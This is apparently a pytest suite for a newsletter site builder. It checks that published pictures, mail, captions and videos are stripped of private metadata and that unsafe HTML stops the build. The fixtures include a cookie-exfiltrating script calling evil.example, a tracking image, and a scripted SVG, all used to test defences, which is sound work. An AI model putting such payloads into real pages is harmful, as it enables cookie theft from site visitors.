"""What reaches readers carries nothing private: pictures without EXIF (GPS, camera, owner), XMP, IPTC or
comments, turned upright, on the site and inside the mailed issue; captions as cues only; hand-written pages
and bodies without the theme's widget hooks, scripts or loads from other hosts. Every file of a built site is
read back with independent parsers (Pillow, zipfile, sqlite's header, Python's `email`)."""

from __future__ import annotations

import io
import re
import textwrap
import zipfile
from email import message_from_bytes, policy
from pathlib import Path

import pytest
from PIL import Image

import media_clips as mc
import sample_files as sf
from conftest import Project, copy_project

PRIVATE_WORDS = [sf.SECRET, sf.CAMERA, sf.ARTIST, sf.COMMENT, "SecretMaker", "山田の自宅", "STYLE", "REGION"]
CAPTIONS = """WEBVTT - 編集メモ: 山田の自宅で収録
Kind: captions

STYLE
::cue { background-image: url(https://evil.example/x.png) }

REGION
id:side
width:40%

NOTE 山田の自宅の住所は kanri.taro@example.go.jp-0123456789

intro
00:00.000 --> 00:01.000 region:side align:start
こんにちは。

NOTE
複数行の
メモ

00:01.000 --> 00:01.900
<v 案内>操作を始めます。</v>
"""


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Project:
    """The sample project plus what a phone and a busy editor hand in: photos with every kind of metadata
    (one stored sideways), a picture with metadata in docs/, captions with memos, styles and regions."""
    project = copy_project(tmp_path_factory.mktemp("published") / "project", with_content=True)
    folder = project.root / "newsletter" / "2026"
    (folder / "img" / "phone.jpg").write_bytes(sf.photo(64, 48, orientation=1))
    (folder / "img" / "sideways.jpg").write_bytes(sf.photo(64, 48, orientation=6))
    (folder / "img" / "screen.png").write_bytes(sf.png_with_metadata())
    (folder / "img" / "anim.gif").write_bytes(sf.gif_with_metadata())
    (folder / "img" / "photo.webp").write_bytes(sf.webp_with_metadata())
    project.add_issue(11, "2026-11-20", "写真の号", textwrap.dedent("""\
        会場の写真です。

        ![会場](img/phone.jpg)

        ![縦の写真](img/sideways.jpg)

        ![画面](img/screen.png)

        ![動く図](img/anim.gif)

        ![WebP の写真](img/photo.webp)
        """))
    project.write("docs/img/team.jpg", sf.photo(40, 30))
    about = project.root / "docs" / "about.md"
    about.write_text(about.read_text(encoding="utf-8") + "\n![チームの写真](img/team.jpg)\n", encoding="utf-8")
    episode = project.root / "videos" / "2026-11-06-shortcut-keys"
    (episode / "captions.vtt").write_text(CAPTIONS, encoding="utf-8")
    mc.clip(episode / "clip.mp4", size="160x90", seconds=7.0, extra=("-metadata", f"comment={sf.SECRET}",
                                                                     "-metadata", "location=+35.6+139.7/"))
    project.build()
    return project


def site_files(project: Project) -> list[Path]:
    return sorted(path for path in project.site.rglob("*") if path.is_file())


def test_no_published_picture_tells_where_who_or_with_what(built: Project) -> None:
    pictures = [path for path in site_files(built) if path.suffix.lower() in {".jpg", ".jpeg", ".png", ".gif", ".webp"}]
    assert len([p for p in pictures if p.parent.name == "files"]) >= 14
    for path in pictures:
        data = path.read_bytes()
        with Image.open(io.BytesIO(data)) as image:
            assert not image.getexif(), path
            assert not {"xmp", "XML:com.adobe.xmp", "photoshop", "exif"} & set(image.info), (path, image.info)
            # ffmpeg signs the posters it draws ("Lavc…"); any other comment is the editor's
            assert image.info.get("comment", b"Lavc").startswith(b"Lavc"), (path, image.info["comment"])
            assert not getattr(image, "text", {}), path
        for word in PRIVATE_WORDS:
            assert word.encode() not in data, (path, word)
        assert b"Exif\x00\x00" not in data and b"xmpmeta" not in data and b"Photoshop 3.0" not in data, path
        if data.startswith(b"\xff\xd8"):
            assert data.rstrip(b"\x00").endswith(b"\xff\xd9"), f"{path}: something follows the picture"


def test_a_sideways_photo_is_published_upright_and_an_animation_keeps_its_frames(built: Project) -> None:
    page = (built.site / "newsletter" / "11" / "index.html").read_text(encoding="utf-8")
    source = {alt: src for src, alt in re.findall(r'<img[^>]*src="([^"]+)"[^>]*alt="([^"]*)"', page)}
    source |= {alt: src for alt, src in re.findall(r'<img[^>]*alt="([^"]*)"[^>]*src="([^"]+)"', page)}
    with Image.open(built.site / "newsletter" / "11" / source["縦の写真"]) as upright:
        assert upright.size == (48, 64)
        corner = upright.convert("RGB").getpixel((upright.width - 2, 2))
        assert isinstance(corner, tuple)
        assert corner[0] > 200 and corner[1] > 200 and corner[2] < 80, "the yellow corner is not top right"
    with Image.open(built.site / "newsletter" / "11" / source["動く図"]) as animation:
        assert getattr(animation, "n_frames", 1) == 3


def test_the_mailed_issue_carries_the_same_clean_pictures(built: Project) -> None:
    message = message_from_bytes((built.site / "email" / "11" / "message.eml").read_bytes(), policy=policy.default)
    parts = [part for part in message.walk() if part.get_content_maintype() == "image"]
    assert len(parts) == 5
    for part in parts:
        data = part.get_content()
        with Image.open(io.BytesIO(data)) as image:
            assert not image.getexif() and "comment" not in image.info and "xmp" not in image.info
        for word in PRIVATE_WORDS:
            assert word.encode() not in data
    raw = (built.site / "email" / "11" / "message.eml").read_bytes()
    assert b"Exif" not in b"".join(part.get_content() for part in parts)
    assert sf.SECRET.encode() not in raw


def test_captions_are_published_as_cues_only(built: Project) -> None:
    published = [p for p in site_files(built) if p.suffix == ".vtt"]
    shortcut = next(p for p in published if "こんにちは" in p.read_text(encoding="utf-8"))
    text = shortcut.read_text(encoding="utf-8")
    assert text == ("WEBVTT\n\n00:00:00.000 --> 00:00:01.000 align:start\nこんにちは。\n\n"
                    "00:00:01.000 --> 00:00:01.900\n<v 案内>操作を始めます。</v>\n")
    import av

    with av.open(str(shortcut)) as container:
        cues = [packet for packet in container.demux(subtitles=0) if packet.size]
    assert len(cues) == 2


def test_no_published_file_is_a_database_an_archive_of_the_project_or_a_secret(built: Project) -> None:
    for path in site_files(built):
        data = path.read_bytes()
        assert not data.startswith(b"SQLite format 3\x00"), path
        assert data[4:19] not in (b"Standard Jet DB", b"Standard ACE DB"), path
        assert sf.SECRET.encode() not in data, path
        if data.startswith(b"PK\x03\x04"):
            with zipfile.ZipFile(io.BytesIO(data)) as archive:
                names = archive.namelist()
            assert not [n for n in names if n.startswith((".git", ".env", "state/", ".cache")) or "mkdocs.yml" in n], path
        if path.suffix == ".mp4":
            import av

            with av.open(str(path)) as container:
                assert "comment" not in container.metadata and "location" not in container.metadata, path


def test_every_page_carries_the_content_security_policy(built: Project) -> None:
    pages = [path for path in site_files(built) if path.suffix == ".html"]
    assert len(pages) > 30
    for path in pages:
        head = path.read_text(encoding="utf-8").split("</head>", 1)[0]
        policy_tags = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)"', head)
        assert len(policy_tags) == 1, path
        assert "default-src &#x27;self&#x27;" in policy_tags[0] and "object-src &#x27;none&#x27;" in policy_tags[0]
        assert "unsafe-eval" not in policy_tags[0]
        before = head.split("Content-Security-Policy", 1)[0]
        assert "<script" not in before and "<style" not in before and "<link" not in before, path


WIDGETS = [
    '<a data-md-component="source" href="https://github.com/example/project">リポジトリ</a>',
    '[リポジトリ](https://github.com/example/project){ data-md-component="source" }',
    '<div data-md-component="announce">お知らせ</div>',
    '<button data-clipboard-text="secret">コピー</button>',
    '<a href="../1/" data-preview>前の号</a>',
    '<span data-md-color-scheme="slate">暗い色</span>',
]


@pytest.mark.parametrize("widget", WIDGETS)
def test_theme_widget_hooks_in_a_body_stop_the_build_with_their_line(project: Project, widget: str) -> None:
    issue = project.add_issue(1, "2026-11-20", "部品の号", f"本文です。\n\n{widget}\n")
    result = project.run_build()
    assert result.returncode != 0
    line = next(n for n, text in enumerate(issue.read_text(encoding="utf-8").splitlines(), 1) if widget in text)
    assert re.search(rf"newsletter/2026/1\.md:{line}: data-[a-z-]+ 属性は本文に使えません", result.stderr), result.stderr


def test_hand_written_pages_get_the_same_rules_as_bodies(project: Project) -> None:
    about = project.root / "docs" / "about.md"
    text = about.read_text(encoding="utf-8")
    about.write_text(text + textwrap.dedent("""
        <script>fetch("https://evil.example/?" + document.cookie)</script>

        <img src="https://evil.example/track.png" alt="追跡">

        <a data-md-component="source" href="https://github.com/example/x">x</a>
        """), encoding="utf-8")
    project.write("docs/logo.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
    project.add_issue(1, "2026-11-20", "ふつうの号")
    result = project.run_build()
    assert result.returncode != 0
    lines = about.read_text(encoding="utf-8").splitlines()
    for needle, words in (("<script>", "<script> は本文に使えません"), ("track.png", "ほかのサイトから読み込む"),
                          ("data-md-component", "data-md-component 属性")):
        line = next(n for n, value in enumerate(lines, 1) if needle in value)
        assert f"docs/about.md:{line}: " in result.stderr and words in result.stderr, (needle, result.stderr)
    assert "docs/logo.svg: SVG" in result.stderr


def test_what_hand_written_pages_legitimately_need_still_works(project: Project) -> None:
    """Links to the site's own files in raw HTML, tables with aligned columns, tabs, the home page's list."""
    project.write("docs/extras.md", textwrap.dedent("""\
        # 付録

        <a href="../feeds/newsletter.xml">RSS</a>

        | 左 | 右 |
        |:---|---:|
        | a | b |

        === "Windows"
            Ctrl を押します。
        === "Mac"
            Command を押します。
        """))
    project.add_issue(1, "2026-11-20", "ふつうの号")
    project.build()
    page = (project.site / "extras" / "index.html").read_text(encoding="utf-8")
    assert 'href="../feeds/newsletter.xml"' in page and 'style="text-align:right"' in page
    assert 'data-tabs="1:2"' in page
    home = (project.site / "index.html").read_text(encoding="utf-8")
    assert "dayori:latest" not in home and "ふつうの号" in home
